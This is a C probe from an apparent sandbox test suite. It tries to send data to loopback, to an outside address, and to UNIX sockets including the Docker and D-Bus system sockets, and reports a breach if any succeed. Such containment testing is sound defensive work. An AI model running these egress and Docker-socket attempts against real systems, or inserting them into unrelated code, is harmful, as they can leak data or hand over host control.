/* SPDX-License-Identifier: MIT */
/*
 * Sends what it knows to somebody elsewhere: to a listener on this machine's loopback, to an
 * address outside, by UDP, and by a UNIX socket. Must happen: there is no way there. The server
 * beside it is right: 40 of 40.
 */
#include "attack.h"
#include <arpa/inet.h>
#include <netdb.h>
#include <netinet/in.h>
#include <poll.h>
#include <stddef.h>
#include <sys/socket.h>
#include <sys/un.h>

static void send_to(int type, const char *address)
{
	struct sockaddr_in a = {.sin_family = AF_INET, .sin_port = htons(PORT)};
	int fd = socket(AF_INET, type | SOCK_NONBLOCK, 0);
	struct pollfd p = {.fd = fd, .events = POLLOUT};

	inet_pton(AF_INET, address, &a.sin_addr);
	if (fd < 0)
		return;
	if (connect(fd, (struct sockaddr *)&a, sizeof a) == 0 || errno == EINPROGRESS) {
		/* a tenth of a second: nothing on one machine takes longer */
		if (poll(&p, 1, 100) == 1 && send(fd, "home", 4, MSG_NOSIGNAL) == 4 &&
		    type == SOCK_STREAM)
			breach("%s is reached", address);
	}
	close(fd);
}

static void send_unix(const char *path, int abstract)
{
	struct sockaddr_un a = {.sun_family = AF_UNIX};
	int fd = socket(AF_UNIX, SOCK_STREAM, 0);

	snprintf(a.sun_path + abstract, sizeof a.sun_path - 1, "%s", path);
	if (fd >= 0 &&
	    connect(fd, (struct sockaddr *)&a,
	            (socklen_t)(offsetof(struct sockaddr_un, sun_path) + (size_t)abstract +
	                        strlen(path) + !abstract)) == 0 &&
	    send(fd, "home", 4, MSG_NOSIGNAL) == 4)
		breach("%s is reached", path);
	if (fd >= 0)
		close(fd);
}

BEFORE_MAIN attack(void)
{
	send_to(SOCK_STREAM, "127.0.0.1");
	send_to(SOCK_DGRAM, "127.0.0.1");
	send_to(SOCK_STREAM, AWAY);
	send_to(SOCK_DGRAM, AWAY);
	send_unix(NAME, 1);
	send_unix(CANARY "/socket", 0);
	send_unix("/run/docker.sock", 0);
	send_unix("/var/run/dbus/system_bus_socket", 0);
	tried("to send home");
}
